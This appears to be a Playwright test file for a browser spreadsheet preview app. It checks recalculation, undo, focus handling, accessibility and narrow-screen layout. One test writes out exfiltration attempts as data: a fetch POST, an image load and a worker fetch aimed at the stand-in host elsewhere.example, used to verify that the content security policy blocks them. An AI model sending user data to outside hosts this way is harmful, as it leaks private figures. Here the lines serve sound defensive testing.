import type { Page } from "playwright-core";
import { formulasReady, openSheet, openWorkedOut, workInSheet } from "./open-page";
import { axeFaults, browserTests, sideways } from "./set-up";

const { inBrowser, served } = browserTests();

const nameBox = (page: Page) => page.locator(".ic-formula-bar-address");
const panel = (page: Page) => page.locator(".pane [role=tabpanel]");
const status = (page: Page) => page.locator(".pane footer");
const sheetInFront = (page: Page): Promise<string> => page.locator(".ic-sheet-tab--selected").innerText();
const openTab = (page: Page, name: string): Promise<void> =>
  page.locator(".pane").getByRole("tab", { name }).click();
/** Types into the cell that is selected, and stays on it. */
async function type(page: Page, text: string): Promise<void> {
  await workInSheet(page);
  await page.keyboard.type(text);
  await page.keyboard.press("Enter");
  await page.keyboard.press("ArrowUp");
}

/** Until the pane shows other figures than before, and works out no more. */
async function changed(page: Page, before: string): Promise<string> {
  await page.waitForFunction((text) => {
    const shown = document.querySelector<HTMLElement>(".pane [role=tabpanel]");
    return shown !== null && shown.innerText !== text && shown.querySelector("[aria-busy=true]") === null;
  }, before);
  return panel(page).innerText();
}

const TABS = ["Overview", "Plan", "Metrics", "Scenarios", "Reinvest", "Audit"];
describe("the preview in a browser", () => {
  inBrowser(
    "opens with the sample's figures, and asks nobody else for anything",
    1280,
    async ({ page, asked }) => {
      expect(await panel(page).innerText()).toContain("Released in");
      expect(await page.locator(".title").innerText()).toContain("Nothing you type leaves this browser.");
      expect([await sheetInFront(page), await nameBox(page).innerText()]).toEqual([
        "Staff",
        expect.stringMatching(/^[A-Z]+7$/),
      ]);
      expect(await page.locator(".sheet canvas").count()).toBeGreaterThan(0);
      const elsewhere = asked.filter((url) => !url.startsWith(served()) && !url.startsWith("data:"));
      expect(elsewhere).toEqual([]);
    },
  );

  inBrowser("can send nothing elsewhere, whatever a script in it tries", 1280, async ({ page }) => {
    // a page of its own: what is refused is also said on its console
    const context = await page.context().browser()?.newContext();
    if (!context) throw new Error("no browser");
    const apart = await context.newPage();
    await apart.goto(served());
    const refused = await apart.evaluate(async () => {
      const found: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
      await fetch("https://elsewhere.example/", { method: "POST", body: "figures" }).catch(() => null);
      await new Promise((done) => {
        const image = document.createElement("img");
        image.addEventListener("error", done);
        image.src = "https://elsewhere.example/figures.png";
      });
      // a worker of its own words, to which this page's policy would not reach
      const script = URL.createObjectURL(new Blob(["fetch('https://elsewhere.example/')"]));
      await new Promise((done) => {
        document.addEventListener("securitypolicyviolation", done, { once: true });
        new Worker(script).addEventListener("error", done);
      });
      return found;
    });
    expect(refused).toEqual(["connect-src", "img-src", "worker-src"]);
    await context.close();
  });

  inBrowser("follows what is typed, names a broken cell, and recovers", 1280, async ({ page }) => {
    await openTab(page, "Metrics");
    const before = await panel(page).innerText();
    const cell = await nameBox(page).innerText();
    await type(page, "0.1");
    const followed = await changed(page, before);
    expect(followed).not.toBe(before);

    await type(page, "abc");
    await status(page)
      .getByText(/problem/)
      .getByText(/[1-9]/)
      .waitFor();
    await openTab(page, "Overview");
    await page
      .locator(".pane")
      .getByText(/"?abc"?/)
      .first()
      .waitFor();
    expect(await page.locator(".pane").innerText()).toContain(`Staff!${cell}`);

    await openSheet(page, "Settings");
    await page
      .locator(".pane")
      .getByRole("button", { name: `Go to Staff!${cell}` })
      .first()
      .click();
    await page.locator(".ic-sheet-tab--selected", { hasText: "Staff" }).waitFor();
    expect(await nameBox(page).innerText()).toBe(cell);

    await type(page, "1");
    await status(page).getByText("No problems found in the workbook").waitFor();
  });

  inBrowser("undoes what was typed and no more, and starts again", 1280, async ({ page }) => {
    await openTab(page, "Metrics");
    const before = await panel(page).innerText();
    await type(page, "0.1");
    const followed = await changed(page, before);
    await page.keyboard.press("Control+z");
    expect(await changed(page, followed)).toBe(before);
    await type(page, "0.1");
    expect(await changed(page, before)).toBe(followed);
    await page.getByRole("button", { name: "New workbook" }).click();
    await page.locator(".note").getByText("would be gone").waitFor();
    await page.getByRole("button", { name: "Stay here" }).click();
    expect(await panel(page).innerText()).toBe(followed);
    await page.getByRole("button", { name: "Start again" }).click();
    await page.getByRole("button", { name: "Go on without it" }).click();
    await panel(page).getByText("Released in").first().waitFor();
    expect(await status(page).innerText()).toContain("No problems found in the workbook");
  });

  inBrowser(
    "has its sheets of formulas from the start, and works them out after an edit",
    1280,
    async ({ page }) => {
      await formulasReady(page);
      expect(await sheetInFront(page)).toBe("Staff");
      await openSheet(page, "Checks");
      expect(await sheetInFront(page)).toBe("Checks");
      await openSheet(page, "Staff");
      const before = await panel(page).innerText();
      await type(page, "0.1");
      await changed(page, before);
      await openWorkedOut(page, "Checks");
      expect(await sheetInFront(page)).toBe("Checks");
    },
  );

  inBrowser("goes through its parts by keyboard, and out of the sheet", 1280, async ({ page }) => {
    const partInFocus = (): Promise<string | undefined> =>
      page.evaluate(() => document.activeElement?.closest<HTMLElement>("[data-part]")?.dataset["part"]);
    // the sheet has the keyboard when the page opens, as in Excel
    await page.waitForFunction(() => document.activeElement?.closest("[data-part=sheet]"));
    const parts: (string | undefined)[] = [];
    for (let time = 0; time < 4; time += 1) {
      await page.keyboard.press("F6");
      parts.push(await partInFocus());
    }
    expect(parts).toEqual(["pane", "title", "sheet", "pane"]);
    // what is drawn anew takes no focus
    await formulasReady(page);
    expect(await partInFocus()).toBe("pane");
    await page.keyboard.press("Shift+F6");
    await page.keyboard.type("0.1");
    const before = await panel(page).innerText();
    await page.keyboard.press("Enter");
    await changed(page, before);
    await page.keyboard.press("F6");
    expect(await partInFocus()).toBe("pane");
  });

  inBrowser(
    "leaves the keyboard in the pane while the sheet draws itself, until it is clicked",
    1280,
    async ({ page }) => {
      const inFocus = (): Promise<string | undefined> =>
        page.evaluate(() => document.activeElement?.closest<HTMLElement>("[data-part]")?.dataset["part"]);
      await formulasReady(page);
      await page.getByRole("tab", { name: "Metrics", exact: true }).click();
      await page.setViewportSize({ width: 1100, height: 700 });
      // the grid draws itself for its new size
      await page.waitForFunction(() => (document.querySelector(".sheet canvas")?.clientWidth ?? 9999) < 800);
      await page.evaluate(() => new Promise(requestAnimationFrame));
      expect(await inFocus()).toBe("pane");
      await page
        .locator(".sheet canvas")
        .first()
        .click({ position: { x: 200, y: 200 } });
      expect(await inFocus()).toBe("sheet");
    },
  );

  inBrowser("has nothing that axe finds, on any tab of the pane", 1280, async ({ page }) => {
    for (const tab of TABS) {
      await openTab(page, tab);
      expect([tab, await axeFaults(page)]).toEqual([tab, []]);
      // the pane scrolls, and not the page around it
      const below = await page.evaluate(() => document.documentElement.scrollHeight - window.innerHeight);
      expect([tab, below]).toEqual([tab, 0]);
    }
    // a short page fills the pane all the same
    await openTab(page, "Plan");
    await page.locator(".pane").getByRole("button", { name: "Import a file" }).click();
    const foot = await page.locator(".pane").evaluate((pane) => {
      const status = pane.querySelector("main")?.nextElementSibling;
      return pane.getBoundingClientRect().bottom - (status?.getBoundingClientRect().bottom ?? NaN);
    });
    expect(foot).toBeCloseTo(0, 0);
  });

  inBrowser("is read without scrolling sideways at 320 pixels", 320, async ({ page }) => {
    for (const tab of TABS) {
      await openTab(page, tab);
      expect([tab, await sideways(page)]).toEqual([tab, 0]);
    }
    expect(await axeFaults(page)).toEqual([]);
  });
});
